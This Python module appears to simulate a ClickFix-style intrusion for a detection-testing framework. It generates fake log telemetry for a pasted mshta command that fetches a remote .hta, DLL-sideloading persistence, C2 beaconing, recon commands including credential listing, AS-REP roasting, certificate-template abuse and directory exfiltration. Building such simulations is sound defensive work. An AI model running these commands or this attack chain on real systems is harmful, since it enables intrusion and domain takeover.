"""A false test for robots makes somebody run a command; what it loads calls home, and looks for the way to the domain."""

from __future__ import annotations

from dataclasses import dataclass
from random import Random

from watchfloor.testing.company.attacks.directory import directory_taken
from watchfloor.testing.company.attacks.plan import Attack
from watchfloor.testing.company.clock import HOUR, MINUTE, SECOND
from watchfloor.testing.company.internet import anywhere
from watchfloor.testing.company.life.browsing import fetched
from watchfloor.testing.company.life.domain import CMD, EXPLORER, MICROSOFT, user_of
from watchfloor.testing.company.people import Machine
from watchfloor.testing.company.products.sysmon import Process, Program
from watchfloor.testing.company.products.windows import Account, Certificate
from watchfloor.testing.company.world import World, every

_MSHTA = Program("C:\\Windows\\System32\\mshta.exe", "Microsoft (R) HTML Application host", MICROSOFT, "MSHTA.EXE")
_LOOKED = (
    "systeminfo", "ipconfig /all", "nltest /dclist:", "net localgroup Administrators", "net accounts /domain",
    "certutil -TCAInfo", "cmdkey /list",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class _Scene:
    """What the steps share.

    Attributes:
        world: to act in.
        random: chance of the attack.
        machine: the victim's.
        account: the victim's.
        page: host name of the page that was tampered with.
        check: host name of the false test.
        control: host name of the control server.
        place: address of both.
    """

    world: World
    random: Random
    machine: Machine
    account: Account
    page: str
    check: str
    control: str
    place: str

    def contacted(self, at: int, name: str, size: int) -> None:
        """The machine asks for something at the attackers', by way of the proxy."""
        client, user = self.machine.address, self.account.name
        fetched(self.world, self.random, at, client, user, name, self.place, size=size)


def laptop_to_controller(
    world: World,
    *,
    day: int,
    time: str,
    victim: str,
    admin: str,
    hours: float,
    country: str,
    page: str,
    check: str,
    control: str,
    template: str,
) -> Attack:
    """From a page with a false test for robots to the copy of the directory.

    Args:
        world: to act in.
        day: on which it begins.
        time: at which it begins.
        victim: account of who runs the command.
        admin: account of the administrator whose name is put into a certificate.
        hours: how long contact with the control server is kept.
        country: where that server is.
        page: host name of the page that was tampered with.
        check: host name of the false test.
        control: host name of the control server.
        template: of certificates, whose subject the requester may choose.
    """
    attack = Attack(
        "laptop", "A pasted command infects a laptop, and the directory is taken from it", "incident", world
    )
    random, machine = world.chance("attack:laptop"), world.person(victim).workstation
    if machine is None:
        raise ValueError(victim)
    place = anywhere(random, country, "hosting").address
    scene = _Scene(world, random, machine, world.account(world.person(victim)), page, check, control, place)
    at = world.week.at(day, time)
    _lured(attack, scene, at)
    loader = _pasted(attack, scene, at + 2 * MINUTE)
    agent = _settled(attack, scene, loader, at + 3 * MINUTE)
    _controlled(attack, scene, agent, at + 5 * MINUTE, int(hours * HOUR))
    _explored(attack, scene, agent, at + 36 * MINUTE)
    _roasted(attack, scene, at + 64 * MINUTE)
    powerful = world.account(world.person(admin), admin=True)
    proof = _certified(attack, scene, powerful, template, at + 107 * MINUTE)
    _became(attack, scene, powerful, proof, at + 112 * MINUTE)
    taken = directory_taken(attack, machine, powerful, at + 131 * MINUTE)
    _sent(attack, scene, agent, taken)
    return attack


def _lured(attack: Attack, scene: _Scene, at: int) -> None:
    what = "A page that was tampered with shows a false test for robots"
    with attack.step(at, what, "T1189", scene.machine.name, scene.page, scene.check, told=False):
        world, site = scene.world, anywhere(scene.random, scene.world.names.local.hosting, "hosting").address
        client, user = scene.machine.address, scene.account.name
        fetched(world, scene.random, at, client, user, scene.page, site, size=188_000)
        scene.contacted(at + 3 * SECOND, scene.check, 21_400)


def _pasted(attack: Attack, scene: _Scene, at: int) -> Process:
    sysmon, host, user = scene.world.products.sysmon, scene.machine.name, user_of(scene.world, scene.account.name)
    url = f"https://{scene.check}/ray/8c1f77a0.hta"
    command = f'"{_MSHTA.image}" {url} # I am not a robot: check 8c1f77a0'
    key = f"HKU\\{scene.world.products.windows.sid(scene.account)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\b"
    what = "The command that the test has put into the clipboard is run by hand"
    with attack.step(at, what, "T1204.004", host, scene.account.name, scene.check):
        explorer = sysmon.running(EXPLORER, user, "C:\\Windows\\Explorer.EXE")
        sysmon.set_value(at, host, explorer, key, command.replace(f'"{_MSHTA.image}"', "mshta") + "\\1")
        loader = sysmon.started(
            at, host, explorer, _MSHTA, command, user=user, logon=scene.world.products.windows.new_logon(),
            folder=f"C:\\Users\\{scene.account.name}\\",
        )  # fmt: skip
        sysmon.asked(at + SECOND, host, loader, scene.check, scene.place)
        _through_proxy(scene, at + SECOND, loader)
        scene.contacted(at + SECOND, scene.check, 2_940_000)
    return loader


def _settled(attack: Attack, scene: _Scene, loader: Process, at: int) -> Process:
    sysmon, host = scene.world.products.sysmon, scene.machine.name
    roaming = f"C:\\Users\\{scene.account.name}\\AppData\\Roaming\\"
    folder = f"{roaming}Penlight\\"
    program = Program(
        f"{folder}penlightsvc.exe", "Penlight Tablet Service", "Penlight Input Co., Ltd.", "penlightsvc.exe"
    )
    what = "A signed program that loads a false library is put into the profile, and into the start-up folder"
    with attack.step(at, what, "T1547.001", host, scene.account.name, program.image):
        for number, name in enumerate(("penlightsvc.exe", "penapi.dll", "strokes.dat")):
            sysmon.wrote(at + number * 200_000, host, loader, folder + name)
        link = f"{roaming}Microsoft\\Windows\\Start Menu\\Programs\\Startup\\Penlight.lnk"
        sysmon.wrote(at + 2 * SECOND, host, loader, link)
        return sysmon.started(
            at + 4 * SECOND, host, loader, program, f'"{program.image}"', user=loader.user,
            logon=scene.world.products.windows.new_logon(), folder=folder,
        )  # fmt: skip


def _through_proxy(scene: _Scene, at: int, process: Process) -> None:
    proxy, port = scene.world.server("proxy").address, scene.world.names.local.proxy_port
    scene.world.products.sysmon.connected(at, scene.machine.name, process, scene.machine.address, proxy, port)


def _controlled(attack: Attack, scene: _Scene, agent: Process, at: int, span: int) -> None:
    what = "It asks its control server for orders every few minutes"
    entities = (scene.machine.name, scene.machine.address, scene.control, scene.place)
    with attack.step(at, what, "T1071.001", *entities):
        for moment in every(scene.random, at, at + span, 240, 0.25):
            scene.contacted(moment, scene.control, scene.random.randrange(520, 900))
            _through_proxy(scene, moment, agent)
        scene.world.products.sysmon.asked(at, scene.machine.name, agent, scene.control, scene.place)


def _explored(attack: Attack, scene: _Scene, agent: Process, at: int) -> None:
    sysmon, host = scene.world.products.sysmon, scene.machine.name
    what = "It looks around: the machine, the domain, its authority for certificates"
    with attack.step(at, what, "T1082", host, scene.account.name, told=False):
        for number, command in enumerate(_LOOKED):
            moment, name = at + number * 160 * SECOND, command.partition(" ")[0]
            shell = sysmon.started(moment, host, agent, CMD, f"cmd.exe /c {command}", user=agent.user)
            program = Program(f"C:\\Windows\\System32\\{name}.exe", name, MICROSOFT, f"{name}.exe")
            sysmon.started(moment + 30_000, host, shell, program, command, user=agent.user)


def _roasted(attack: Attack, scene: _Scene, at: int) -> None:
    world, controller = scene.world, scene.world.server("controller").name
    weak = world.names.roastable[-3:]
    what = "Tickets of accounts that need no proof are asked for, in an old encryption"
    entities = (scene.machine.address, *(each.name for each in weak))
    with attack.step(at, what, "T1558.004", *entities):
        for number, account in enumerate(weak):
            world.products.windows.ticket(
                at + number * 420_000, controller, account, scene.machine.address, encryption="0x17", proof=0
            )


def _certified(attack: Attack, scene: _Scene, admin: Account, template: str, at: int) -> Certificate:
    world, authority = scene.world, scene.world.server("authority")
    what = "The authority gives a certificate with an administrator's name to the account of somebody else"
    entities = (authority.name, scene.account.name, admin.name, scene.machine.name)
    with attack.step(at, what, "T1649", *entities):
        controller, address = world.server("controller").name, scene.machine.address
        windows = world.products.windows
        windows.service_ticket(at, controller, scene.account, address, world.machine_account(authority))
        windows.logged_on(at + SECOND, authority.name, scene.account, address=address, seconds=15)
        world.products.firewall.session(at + 3 * SECOND, address, authority.address, 135, sent=700, received=620)
        world.products.firewall.session(
            at + 20 * SECOND, address, authority.address, 49701, sent=6_400, received=7_100, seconds=16
        )
        client = scene.machine.name.upper()
        return windows.certified(
            at + 2 * SECOND, authority.name, scene.account, f"CN={admin.name}", template=template, client=client
        )


def _became(attack: Attack, scene: _Scene, admin: Account, proof: Certificate, at: int) -> None:
    what = "The certificate opens the domain as the administrator, from the laptop"
    with attack.step(at, what, "T1078.002", admin.name, scene.machine.address):
        controller, address = scene.world.server("controller"), scene.machine.address
        scene.world.products.windows.ticket(at, controller.name, admin, address, proof=16, certificate=proof)
        scene.world.products.firewall.session(at + SECOND, address, controller.address, 88, sent=5_300, received=4_800)


def _sent(attack: Attack, scene: _Scene, agent: Process, at: int) -> None:
    what = "The copy of the directory leaves in pieces, by way of the control server"
    with attack.step(at, what, "T1041", scene.machine.name, scene.control, told=False):
        products, proxy, sent = scene.world.products, scene.world.server("proxy").address, 2_450_000
        client, user = scene.machine.address, scene.account.name
        for number in range(6):
            moment = at + number * 95 * SECOND
            products.resolver.query(moment, client, scene.control)
            _through_proxy(scene, moment, agent)
            products.ids.tls(moment + 80_000, proxy, scene.place, scene.control)
            end = moment + 38 * SECOND
            products.proxy.request(
                end,
                client,
                user,
                "CONNECT",
                f"{scene.control}:443",
                size=4_600,
                address=scene.place,
                millis=38_000,
                sent=sent,
            )
            products.firewall.session(end, proxy, scene.place, 443, sent=sent, received=8_600, seconds=38)
